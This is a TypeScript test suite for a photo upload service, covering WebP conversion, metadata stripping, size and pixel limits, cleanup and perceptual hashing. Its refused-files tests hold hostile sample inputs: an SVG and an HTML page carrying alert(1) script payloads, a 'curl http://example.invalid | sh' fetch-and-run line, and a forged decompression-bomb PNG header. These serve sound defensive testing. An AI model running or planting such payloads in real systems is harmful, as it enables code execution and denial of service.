import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import zlib from 'node:zlib';
import sharp, { type Sharp } from 'sharp';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { InvalidError, PayloadTooLargeError } from '#lib/errors.ts';
import type { Photo } from '#lib/listing.ts';
import { MAX_PHOTOS } from '#lib/limits.ts';
import { PHOTO_WIDTHS } from '#lib/photos.ts';
import { withLocale } from '#lib/i18n.server.ts';
import {
  createMediaService,
  differenceHash,
  MAX_INPUT_PIXELS,
  PHOTO_MESSAGES,
  type MediaService,
} from './media.service.ts';
import { createLocalPhotoStorage, type LocalPhotoStorage } from './media.storage.ts';

/**
 * A real HEIC (HEVC) photo, 160x120, left half red and right half blue, carrying EXIF with GPS
 * coordinates. No npm package ships one, so it was made once with Debian's libheif-examples
 * 1.15.1 (x265 encoder): `heif-enc -q 60 -o phone-photo.heic source.jpg`, where source.jpg was
 * drawn with sharp and given EXIF by `withExif`.
 */
const HEIC_FIXTURE = fs.readFileSync(new URL('./fixtures/phone-photo.heic', import.meta.url));

const NOT_A_PHOTO = `photos: ${PHOTO_MESSAGES.unsupported}`;
const DAMAGED = `photos: ${PHOTO_MESSAGES.damaged}`;

let storage: LocalPhotoStorage;
let media: MediaService;

beforeEach(() => {
  storage = createLocalPhotoStorage(fs.mkdtempSync(path.join(os.tmpdir(), 'media-test-')));
  media = createMediaService({ storage, maxBytes: 10 * 1024 * 1024 });
});

afterEach(() => {
  fs.rmSync(storage.dir, { recursive: true, force: true });
});

/** The stored files, without the temporary ones a write goes through. */
function storedFiles(): string[] {
  return fs
    .readdirSync(storage.dir)
    .filter((name) => !name.startsWith('.'))
    .sort();
}

function filesOf(photo: Photo): string[] {
  return PHOTO_WIDTHS.map((width) => `${photo.key}-${width}.webp`);
}

/** A picture with noise, so encoders cannot shrink it to nothing and hashes differ per seed. */
function noisy(width: number, height: number, mean = 128): Sharp {
  return sharp({
    create: {
      width,
      height,
      channels: 3,
      background: { r: 90, g: 140, b: 60 },
      noise: { type: 'gaussian', mean, sigma: 30 },
    },
  });
}

/** Top half red, bottom half blue: shows which way a picture was turned. */
async function twoTone(width: number, height: number): Promise<Sharp> {
  const blue = await sharp({
    create: { width, height: height / 2, channels: 3, background: { r: 20, g: 60, b: 230 } },
  })
    .png()
    .toBuffer();
  return sharp({
    create: { width, height, channels: 3, background: { r: 230, g: 30, b: 30 } },
  }).composite([{ input: blue, top: height / 2, left: 0 }]);
}

async function pixelAt(file: string, x: number, y: number): Promise<number[]> {
  const { data, info } = await sharp(file).raw().toBuffer({ resolveWithObject: true });
  const offset = (y * info.width + x) * info.channels;
  return [...data.subarray(offset, offset + 3)];
}

/** Whether raw EXIF (as sharp's metadata gives it) points to a GPS block from its first IFD. */
function hasGpsBlock(exif: Buffer): boolean {
  // JPEG puts 'Exif\0\0' before the TIFF header, HEIF an offset: find the header itself.
  const little = exif.indexOf('II*\0', 0, 'latin1');
  const tiff = exif.subarray(little >= 0 ? little : exif.indexOf('MM\0*', 0, 'latin1'));
  const isLittleEndian = tiff.toString('latin1', 0, 2) === 'II';
  const read16 = (at: number) => (isLittleEndian ? tiff.readUInt16LE(at) : tiff.readUInt16BE(at));
  const read32 = (at: number) => (isLittleEndian ? tiff.readUInt32LE(at) : tiff.readUInt32BE(at));
  const firstIfd = read32(4);
  const GPS_INFO_TAG = 0x8825;
  for (let entry = 0; entry < read16(firstIfd); entry += 1) {
    if (read16(firstIfd + 2 + entry * 12) === GPS_INFO_TAG) return true;
  }
  return false;
}

async function expectRefusal(
  promise: Promise<unknown>,
  status: number,
  message: string,
): Promise<void> {
  await expect(promise).rejects.toMatchObject({ status, message });
}

/**
 * A valid 1x1 PNG whose header is rewritten to claim 20000x20000 pixels: what a decompression
 * bomb shows a decoder before it starts. Its pixel data could not fill that, so if the
 * pipeline decoded it the answer would be 'damaged', not the pixel limit.
 */
async function pngClaiming(width: number, height: number): Promise<Buffer> {
  const png = Buffer.from(
    await sharp({ create: { width: 1, height: 1, channels: 3, background: 'white' } })
      .png()
      .toBuffer(),
  );
  // Signature (8), IHDR length (4), 'IHDR' (4), then width and height, then the chunk's CRC.
  png.writeUInt32BE(width, 16);
  png.writeUInt32BE(height, 20);
  png.writeUInt32BE(zlib.crc32(png.subarray(12, 29)), 29);
  return png;
}

describe('accepted photos', () => {
  const formats = {
    jpeg: (image: Sharp) => image.jpeg({ quality: 85 }),
    png: (image: Sharp) => image.png(),
    webp: (image: Sharp) => image.webp(),
    avif: (image: Sharp) => image.avif({ effort: 0 }),
  } as const;

  it.each(Object.entries(formats))(
    'stores %s as WebP at each width, never the uploaded bytes',
    async (format, encode) => {
      const input = await encode(noisy(1400, 1050)).toBuffer();
      expect((await sharp(input).metadata()).format).toBe(format === 'avif' ? 'heif' : format);

      const { photos } = await media.storePhotos([input]);

      expect(photos).toHaveLength(1);
      const [photo] = photos as [Photo];
      expect(photo).toMatchObject({ width: 1400, height: 1050 });
      expect(photo.key).toMatch(/^[0-9a-f]{32}$/);
      expect(photo.placeholder).toMatch(/^data:image\/webp;base64,/);
      expect(storedFiles()).toEqual(filesOf(photo).sort());
      for (const width of PHOTO_WIDTHS) {
        const file = path.join(storage.dir, `${photo.key}-${width}.webp`);
        const stored = await sharp(file).metadata();
        expect(stored).toMatchObject({ format: 'webp', width, height: (width * 3) / 4 });
        expect(fs.readFileSync(file).equals(input)).toBe(false);
      }
    },
  );

  it('stores a real HEIC from a phone, decoded through heic-decode', async () => {
    const header = await sharp(HEIC_FIXTURE).metadata();
    expect(header).toMatchObject({ format: 'heif', compression: 'hevc' });
    expect(header.exif && hasGpsBlock(header.exif)).toBe(true);
    // The reason heic-decode is needed: sharp's own libvips reads the header but has no HEVC.
    await expect(sharp(HEIC_FIXTURE).raw().toBuffer()).rejects.toThrow();

    const photo = await media.storePhoto(HEIC_FIXTURE);

    expect(photo).toMatchObject({ width: 160, height: 120 });
    expect(storedFiles()).toEqual(filesOf(photo).sort());
    const largest = path.join(storage.dir, `${photo.key}-1280.webp`);
    const stored = await sharp(largest).metadata();
    expect(stored).toMatchObject({ format: 'webp', width: 160, height: 120, hasAlpha: false });
    expect(stored.exif).toBeUndefined();
    // Real pixels came out: red on the left, blue on the right, as the fixture was drawn.
    const [leftRed, , leftBlue] = await pixelAt(largest, 20, 60);
    const [rightRed, , rightBlue] = await pixelAt(largest, 140, 60);
    expect(leftRed).toBeGreaterThan(150);
    expect(leftBlue).toBeLessThan(100);
    expect(rightBlue).toBeGreaterThan(150);
    expect(rightRed).toBeLessThan(100);
  });

  it('never enlarges a small photo: every width holds it at its own size', async () => {
    const photo = await media.storePhoto(await noisy(200, 100).png().toBuffer());

    expect(photo).toMatchObject({ width: 200, height: 100 });
    for (const name of filesOf(photo)) {
      const stored = await sharp(path.join(storage.dir, name)).metadata();
      expect(stored).toMatchObject({ width: 200, height: 100 });
    }
  });

  it('turns a photo upright by its EXIF orientation and strips all its metadata', async () => {
    const input = await (
      await twoTone(400, 200)
    )
      .jpeg({ quality: 90 })
      .withMetadata({ orientation: 6 })
      .withExif({
        IFD0: { Make: 'Phone', Model: 'Camera' },
        IFD3: {
          GPSLatitudeRef: 'S',
          GPSLatitude: '1/1 57/1 0/1',
          GPSLongitudeRef: 'E',
          GPSLongitude: '30/1 3/1 0/1',
        },
      })
      .withXmp(
        '<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF ' +
          'xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"/></x:xmpmeta>',
      )
      .toBuffer();
    const before = await sharp(input).metadata();
    expect(before).toMatchObject({ width: 400, height: 200, orientation: 6 });
    expect(before.exif && hasGpsBlock(before.exif)).toBe(true);
    expect(before.xmp).toBeDefined();

    const photo = await media.storePhoto(input);

    expect(photo).toMatchObject({ width: 200, height: 400 });
    for (const name of filesOf(photo)) {
      const file = path.join(storage.dir, name);
      const stored = await sharp(file).metadata();
      expect(stored).toMatchObject({ width: 200, height: 400 });
      expect(stored.orientation).toBeUndefined();
      expect(stored.exif).toBeUndefined();
      expect(stored.xmp).toBeUndefined();
      expect(stored.iptc).toBeUndefined();
      expect(fs.readFileSync(file).includes('Phone')).toBe(false);
    }
    // Orientation 6 means "turn 90 degrees clockwise": the red top ends up on the right.
    const largest = path.join(storage.dir, `${photo.key}-1280.webp`);
    expect((await pixelAt(largest, 150, 200))[0]).toBeGreaterThan(150);
    expect((await pixelAt(largest, 50, 200))[2]).toBeGreaterThan(150);
  });

  it('keeps the given order, the first being the cover, and names files by content', async () => {
    const first = await noisy(300, 200, 100).jpeg().toBuffer();
    const second = await noisy(300, 200, 160).png().toBuffer();

    const { photos } = await media.storePhotos([first, second]);
    const again = await media.storePhoto(first);

    expect(photos).toHaveLength(2);
    expect(photos[0]!.key).not.toBe(photos[1]!.key);
    expect(again.key).toBe(photos[0]!.key);
    expect(storedFiles()).toEqual([...filesOf(photos[0]!), ...filesOf(photos[1]!)].sort());
  });

  it(`accepts ${MAX_PHOTOS} photos`, async () => {
    const inputs = await Promise.all(
      Array.from({ length: MAX_PHOTOS }, (_, index) =>
        noisy(64, 48, 40 + index * 20)
          .png()
          .toBuffer(),
      ),
    );

    const { photos } = await media.storePhotos(inputs);

    expect(photos).toHaveLength(MAX_PHOTOS);
    expect(storedFiles()).toHaveLength(MAX_PHOTOS * PHOTO_WIDTHS.length);
  });
});

describe('refused files', () => {
  const tiny = () => sharp({ create: { width: 8, height: 8, channels: 3, background: 'red' } });
  const refused: Array<[string, () => Promise<Buffer>, string]> = [
    [
      'an SVG, which sharp could draw',
      async () =>
        Buffer.from(
          '<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40">' +
            '<script>alert(1)</script><rect width="40" height="40" fill="red"/></svg>',
        ),
      NOT_A_PHOTO,
    ],
    [
      'a PDF',
      async () =>
        Buffer.from(
          '%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n' +
            '2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n',
        ),
      NOT_A_PHOTO,
    ],
    ['a GIF', () => tiny().gif().toBuffer(), NOT_A_PHOTO],
    ['a TIFF', () => tiny().tiff().toBuffer(), NOT_A_PHOTO],
    [
      'an HTML page',
      async () =>
        Buffer.from('<!doctype html><html><body><img src=x onerror=alert(1)></body></html>'),
      NOT_A_PHOTO,
    ],
    [
      'a script renamed photo.jpg',
      async () => Buffer.from('#!/bin/sh\ncurl http://example.invalid | sh\n'),
      NOT_A_PHOTO,
    ],
    ['an empty file', async () => Buffer.alloc(0), NOT_A_PHOTO],
    [
      'a HEIC whose picture data is damaged',
      async () => {
        // The header still reads as HEIC; only the HEVC decoder in the worker finds out.
        const damaged = Buffer.from(HEIC_FIXTURE);
        return damaged.fill(0, damaged.indexOf('mdat') + 4);
      },
      DAMAGED,
    ],
    [
      'a truncated JPEG',
      async () => {
        const jpeg = await noisy(400, 300).jpeg().toBuffer();
        return jpeg.subarray(0, Math.floor(jpeg.length / 2));
      },
      DAMAGED,
    ],
  ];

  it.each(refused)('refuses %s with a 400 naming the field', async (_, make, message) => {
    const input = await make();

    const refusal = media.storePhotos([input]);

    await expectRefusal(refusal, 400, message);
    await expect(refusal).rejects.toBeInstanceOf(InvalidError);
    await expect(refusal).rejects.toMatchObject({
      issues: [{ field: 'photos', message: message.replace('photos: ', '') }],
    });
    expect(storedFiles()).toEqual([]);
  });

  it('names the field it was given', async () => {
    await expectRefusal(
      media.storePhoto(Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"/>'), 'image'),
      400,
      `image: ${PHOTO_MESSAGES.unsupported}`,
    );
  });

  it('refuses a decompression bomb from its header, without decoding its pixels', async () => {
    const bomb = await pngClaiming(20_000, 20_000);
    expect(bomb.length).toBeLessThan(100);
    expect(await sharp(bomb, { limitInputPixels: false }).metadata()).toMatchObject({
      format: 'png',
      width: 20_000,
      height: 20_000,
    });
    expect(20_000 * 20_000).toBeGreaterThan(MAX_INPUT_PIXELS);

    // This message comes from the header check alone: decoding would fail otherwise.
    await expectRefusal(
      media.storePhotos([bomb]),
      400,
      'photos: each photo must be at most 40 megapixels',
    );
    expect(storedFiles()).toEqual([]);
  });

  it(`refuses more than ${MAX_PHOTOS} photos before reading any`, async () => {
    const photo = await tiny().png().toBuffer();

    await expectRefusal(
      media.storePhotos(Array.from({ length: MAX_PHOTOS + 1 }, () => photo)),
      400,
      'photos: at most 8 photos',
    );
    expect(storedFiles()).toEqual([]);
  });

  it('refuses a photo over the size limit with a 413', async () => {
    const limited = createMediaService({ storage, maxBytes: Math.round(0.1 * 1024 * 1024) });
    const large = await noisy(800, 600).jpeg({ quality: 95 }).toBuffer();
    expect(large.length).toBeGreaterThan(0.1 * 1024 * 1024);

    const refusal = limited.storePhotos([await tiny().png().toBuffer(), large]);

    await expectRefusal(refusal, 413, 'photos: each photo must be at most 0.1 MB');
    await expect(refusal).rejects.toBeInstanceOf(PayloadTooLargeError);
    expect(storedFiles()).toEqual([]);
    await expect(limited.storePhoto(await tiny().png().toBuffer())).resolves.toBeDefined();
  });
});

describe('refusals in the language of the request', () => {
  it('tells a French or Kinyarwanda page what is wrong in its language', async () => {
    const svg = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"/>');
    await expect(withLocale('fr', () => media.storePhotos([svg]))).rejects.toMatchObject({
      issues: [{ field: 'photos', message: 'doit être une photo JPEG, PNG, WebP, AVIF ou HEIC' }],
    });
    await expect(withLocale('rw', () => media.storePhotos([svg]))).rejects.toMatchObject({
      issues: [
        { field: 'photos', message: 'igomba kuba ifoto ya JPEG, PNG, WebP, AVIF cyangwa HEIC' },
      ],
    });
    const photo = await noisy(8, 8).png().toBuffer();
    await expect(
      withLocale('fr', () =>
        media.storePhotos(Array.from({ length: MAX_PHOTOS + 1 }, () => photo)),
      ),
    ).rejects.toMatchObject({ issues: [{ field: 'photos', message: '8 photos au maximum' }] });
  });

  it('writes a size limit as French writes numbers, naming the field', async () => {
    const limited = createMediaService({ storage, maxBytes: Math.round(0.5 * 1024 * 1024) });
    const large = await noisy(1200, 900).jpeg({ quality: 95 }).toBuffer();
    expect(large.length).toBeGreaterThan(0.5 * 1024 * 1024);
    await expect(withLocale('fr', () => limited.storePhotos([large]))).rejects.toMatchObject({
      status: 413,
      issues: [{ field: 'photos', message: 'chaque photo doit peser au plus 0,5 Mo' }],
    });
  });
});

describe('files left behind', () => {
  it('removes what it stored when the 3rd of 3 photos turns out damaged', async () => {
    const first = await noisy(500, 400, 90).jpeg().toBuffer();
    const second = await noisy(500, 400, 170).webp().toBuffer();
    const whole = await noisy(500, 400).jpeg().toBuffer();
    // Its header reads as a JPEG, so only decoding finds the damage, after two were stored.
    const truncated = whole.subarray(0, Math.floor(whole.length / 2));

    await expectRefusal(media.storePhotos([first, second, truncated]), 400, DAMAGED);

    expect(storedFiles()).toEqual([]);
  });

  it('keeps a file that another listing already held when a later photo fails', async () => {
    const shared = await noisy(300, 200, 80).png().toBuffer();
    const own = await noisy(300, 200, 180).png().toBuffer();
    const sharedPhoto = await media.storePhoto(shared);
    const before = storedFiles();

    const whole = await noisy(300, 200).jpeg().toBuffer();
    const truncated = whole.subarray(0, Math.floor(whole.length / 2));

    await expectRefusal(media.storePhotos([own, shared, truncated]), 400, DAMAGED);

    expect(storedFiles()).toEqual(before);
    expect(before).toEqual(filesOf(sharedPhoto).sort());
  });

  it('discard() removes the files the call created and keeps pre-existing shared ones', async () => {
    const shared = await noisy(300, 200, 80).jpeg().toBuffer();
    const own = await noisy(300, 200, 180).avif({ effort: 0 }).toBuffer();
    const sharedPhoto = await media.storePhoto(shared);

    const stored = await media.storePhotos([own, shared]);
    const [ownPhoto] = stored.photos as [Photo, Photo];
    expect(storedFiles()).toEqual([...filesOf(ownPhoto), ...filesOf(sharedPhoto)].sort());

    await stored.discard();
    expect(storedFiles()).toEqual(filesOf(sharedPhoto).sort());
    await stored.discard();
    expect(storedFiles()).toEqual(filesOf(sharedPhoto).sort());
  });

  it('stores nothing for an empty list, and discarding it is harmless', async () => {
    const stored = await media.storePhotos([]);

    expect(stored.photos).toEqual([]);
    await stored.discard();
    expect(storedFiles()).toEqual([]);
  });
});

describe('withStoredPhotos', () => {
  it('hands the write the stored photos and keeps them when it succeeds', async () => {
    const photo = await noisy(300, 200, 60).jpeg().toBuffer();

    const keys = await media.withStoredPhotos([photo], async (stored) =>
      stored?.photos.map((photo) => photo.key),
    );

    expect(keys).toHaveLength(1);
    expect(storedFiles()).toEqual(PHOTO_WIDTHS.map((width) => `${keys![0]}-${width}.webp`).sort());
  });

  it('removes the photos it stored when the write fails, and rethrows its error', async () => {
    const photo = await noisy(300, 200, 200).jpeg().toBuffer();
    const failure = new Error('the row could not be written');

    await expect(
      media.withStoredPhotos([photo], async (stored) => {
        expect(stored?.photos).toHaveLength(1);
        throw failure;
      }),
    ).rejects.toBe(failure);

    expect(storedFiles()).toEqual([]);
  });

  it('stores nothing and passes no photos when no file was sent', async () => {
    await expect(media.withStoredPhotos([], async (stored) => stored)).resolves.toBeUndefined();
    expect(storedFiles()).toEqual([]);
  });
});

describe('local photo storage', () => {
  it('says whether put created the file, and never overwrites a name', async () => {
    expect(await storage.put('a-320.webp', Buffer.from('first'))).toBe(true);
    expect(await storage.put('a-320.webp', Buffer.from('second'))).toBe(false);

    expect(fs.readFileSync(path.join(storage.dir, 'a-320.webp'), 'utf8')).toBe('first');
    expect(fs.readdirSync(storage.dir)).toEqual(['a-320.webp']);
    await storage.remove('a-320.webp');
    expect(await storage.has('a-320.webp')).toBe(false);
  });
});

/**
 * Real photographs for the perceptual hash: `circuit-board.jpg` is the STM32F3 Discovery board
 * of the Rust Embedded Book (assets/f3.jpg, MIT/Apache-2.0), `sample-stamp.jpg` the @fastify/static
 * test picture (MIT), each scaled down once with sharp.
 */
const BOARD = fs.readFileSync(new URL('./fixtures/circuit-board.jpg', import.meta.url));
const STAMP = fs.readFileSync(new URL('./fixtures/sample-stamp.jpg', import.meta.url));

/** How many of the 64 bits two hashes differ in. */
function distance(a: string, b: string): number {
  let xor = BigInt(`0x${a}`) ^ BigInt(`0x${b}`);
  let bits = 0;
  for (; xor > 0n; xor >>= 1n) bits += Number(xor & 1n);
  return bits;
}

describe('perceptual hash', () => {
  it('is 64 bits as 16 hex digits, stored with each photo', async () => {
    const photo = await media.storePhoto(BOARD);
    expect(photo.hash).toMatch(/^[0-9a-f]{16}$/);
    // Stored from the decoded pixels at the largest stored width: the same picture's hash.
    expect(distance(photo.hash!, await differenceHash(sharp(BOARD)))).toBeLessThanOrEqual(3);
  });

  it('barely moves when the same photo is re-encoded, resized or recompressed', async () => {
    const original = await differenceHash(sharp(BOARD));
    const variants = await Promise.all([
      sharp(BOARD).webp({ quality: 60 }).toBuffer(),
      sharp(BOARD).png().toBuffer(),
      sharp(BOARD).resize({ width: 200 }).jpeg({ quality: 70 }).toBuffer(),
      sharp(BOARD).resize({ width: 1200 }).jpeg({ quality: 95 }).toBuffer(),
      sharp(BOARD).jpeg({ quality: 35 }).toBuffer(),
      sharp(BOARD).modulate({ brightness: 1.1 }).jpeg({ quality: 80 }).toBuffer(),
    ]);
    for (const variant of variants) {
      const stored = await media.storePhoto(variant);
      expect(distance(original, stored.hash!)).toBeLessThanOrEqual(3);
    }
  });

  it('is far from the hash of a different photo', async () => {
    const [board, stamp] = await Promise.all([media.storePhoto(BOARD), media.storePhoto(STAMP)]);
    expect(distance(board.hash!, stamp.hash!)).toBeGreaterThan(16);
    const heic = await media.storePhoto(HEIC_FIXTURE);
    expect(distance(board.hash!, heic.hash!)).toBeGreaterThan(16);
  });

  it('ignores the shape a picture is squeezed into and its transparency', async () => {
    const squeezed = await sharp(BOARD).resize(300, 300, { fit: 'fill' }).png().toBuffer();
    const withAlpha = await sharp(BOARD).ensureAlpha().png().toBuffer();
    const original = await differenceHash(sharp(BOARD));
    expect(distance(original, await differenceHash(sharp(squeezed)))).toBeLessThanOrEqual(3);
    expect(distance(original, await differenceHash(sharp(withAlpha)))).toBeLessThanOrEqual(3);
  });
});
